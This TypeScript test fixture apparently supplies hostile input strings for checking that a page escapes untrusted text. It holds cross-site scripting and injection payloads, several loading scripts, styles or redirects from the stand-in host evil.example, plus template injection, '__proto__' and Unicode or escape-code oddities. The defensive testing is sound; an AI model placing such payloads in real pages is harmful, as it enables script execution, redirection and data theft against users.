/** Texts that a careless page would run, follow, or break under. Whatever runs says so in `window.owned`. */
const own = 'window.owned=1'

export const attacks: readonly string[] = [
  `<script>${own}</script>`,
  `</script><script>${own}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${own}>`,
  `<img src="https://evil.example/beacon.png">`,
  `"><svg/onload=${own}>`,
  `'><body onpageshow=${own}>`,
  `<svg><animate onbegin=${own} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${own}"><text>a</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${own}</script>"></iframe>`,
  `<iframe src=https://evil.example></iframe>`,
  `<object data="javascript:${own}"></object>`,
  `<math><mtext><style><img src=x onerror=${own}>`,
  `<details open ontoggle=${own}>`,
  `<input autofocus onfocus=${own}>`,
  `<a href="javascript:${own}">a link</a>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content=0;url=https://evil.example>`,
  `<form action=https://evil.example><button>x</button>`,
  `</textarea></title></noscript><script>${own}</script>`,
  `javascript:${own}`,
  `data:text/html,<script>${own}</script>`,
  `{{constructor.constructor('${own}')()}}`,
  `\${${own}}`,
  `" onmouseover="${own}" x="`,
  `--><script>${own}</script><!--`,
  `&lt;script&gt;${own}&lt;/script&gt;`,
  `\\u003cscript\\u003e${own}\\u003c/script\\u003e`,
  '\u202Egnp.exe\u202C turned around',
  '\u200B\u200C\u200D\uFEFFof no width',
  `Z${'\u0300\u0316\u0323'.repeat(30)} piled up`,
  'W'.repeat(180),
  '\u001B[31mred\u001B[0m\u0007',
  '__proto__',
  '👩‍👩‍👧‍👦'.repeat(8),
]

/** Two thousand characters of them, which is what a description may have. */
export const allAttacks = attacks.join(' ').slice(0, 2_000)

/** Ten thousand characters without a place to break at, and as many lines. */
export const longText = `${'x'.repeat(5_000)}${'\n<b>'.repeat(1_250)}`
